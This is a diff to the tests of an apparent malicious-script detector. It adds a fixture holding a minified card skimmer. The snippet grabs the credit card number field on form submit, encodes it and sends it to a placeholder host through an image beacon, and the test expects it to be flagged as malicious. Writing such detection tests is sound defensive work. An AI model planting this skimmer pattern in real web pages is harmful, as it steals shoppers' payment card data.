@@ -26,6 +26,18 @@ describe('sends the first look cannot name', () => {
     expect(v.findings.map((f) => f.message).join('\n')).toContain('https://edge-metrics.example/q')
   })
 
+  it('an image made under a name that says nothing, its address held in a variable', () => {
+    // what a minifier makes of `ping(url)`: the element's name is one letter, the URL computed
+    const source = `document.addEventListener('submit', function (n) {
+        var o = { c: n.target.querySelector('input[autocomplete="cc-number"]').value }
+        ;[btoa(JSON.stringify(o))].forEach(function (e) {
+          var u, a; u = 'https://px.example/s.gif?d=' + encodeURIComponent(e)
+          ;(a = document.createElement('img')).width = 1, a.src = u }) }, true)`
+    const v = analyzeScript(source)
+    expect(v.verdict).toBe('malicious')
+    expect(v.findings.map((f) => f.message).join('\n')).toContain('via image')
+  })
+
   it('names joined by a one-line wrapper of + are names', () => {
     const source = `var j = function (a, b) { return a + b }
       document[j('addEvent', 'Listener')](j('sub', 'mit'), function () {
